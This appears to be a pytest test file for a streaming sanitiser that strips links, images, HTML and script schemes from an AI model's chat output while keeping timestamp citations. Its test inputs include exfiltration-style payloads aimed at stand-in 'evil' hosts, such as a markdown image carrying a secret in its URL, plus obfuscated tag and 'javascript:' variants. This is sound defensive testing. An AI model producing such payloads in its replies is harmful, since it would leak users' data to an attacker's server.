"""What a model's text becomes, whatever pieces it comes in."""

from collections.abc import Generator

import pytest

from transcripts.services.chat.cleaning import LONGEST, cleaned, clock


def in_pieces(text: str, size: int) -> Generator[str]:
    yield from (text[at : at + size] for at in range(0, len(text), size))


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("He said so [12:04] and [99:99].", "He said so [12:04] and ."),
        ("Both [01:02, 12:04].", "Both [12:04]."),
        ("At 12:04 and 5 < 6, a < b.", "At 12:04 and 5 < 6, a < b."),
        ("![x](http://evil/?q=secret) ok", "x ok"),
        ("see [here](https://evil.example/a?b=c) now", "see here now"),
        ("<img src=//evil/x> hi <b>bold</b>", " hi bold"),
        ("go to https://evil.example/x?y=1 now", "go to  now"),
        ("[a][ref]\n[ref]: http://evil", "a\nref "),
        ("[<img src=//evil/x>](http://evil)", ""),
        ("[12:04](http://evil)", "[12:04]"),
        ("an [aside] stays", "an aside stays"),
        ("an open [bracket", "an open bracket"),
        ("https://evil", ""),
        ("it goes on […]", "it goes on […]"),
        ("it is 4 <b and goes on […]", "it is 4 b and goes on […]"),
        ("it cites [12:0 […]", "it cites 12:0 […]"),
        ("ends with a word and!", "ends with a word and!"),
        ("<<b>img src=x>", "< img src=x>"),
        ("<[99:99]img src=/<b>/evil/x>", "< img src=/ /evil/x>"),
        ("!<b>[12:04]<b>(ht<b>tps:/<b>/evil/x)", "! [12:04] (ht tps:/ /evil/x)"),
        ("[12:04](x)(evil.example/x)", "[12:04] (evil.example/x)"),
        ("[12:04]<b>: /evil", "[12:04] : /evil"),
        ("[ht<tps:/</evil.example/x] ok", " ok"),
        ("jav<b></b>ascript<b></b>:x", "jav ascript :x"),
    ],
)
def test_what_is_left(said: str, left: str) -> None:
    assert {"".join(cleaned(in_pieces(said, size), ["12:04"])) for size in (1, 2, 3, 7, 100)} == {left}


def test_what_never_closes_holds_nothing_back_for_ever() -> None:
    pieces = cleaned(in_pieces("[" + "x" * 3 * LONGEST + " and so on", 10), [])
    assert len(next(pieces)) < 2 * LONGEST
    assert "[" not in "".join(pieces)


def test_words_come_as_they_are_written() -> None:
    assert next(cleaned(in_pieces("One two. Three.", 4), [])) == "One "


@pytest.mark.parametrize(("seconds", "shown"), [(0, "00:00"), (724.9, "12:04"), (3723, "1:02:03")])
def test_times(seconds: float, shown: str) -> None:
    assert clock(seconds) == shown
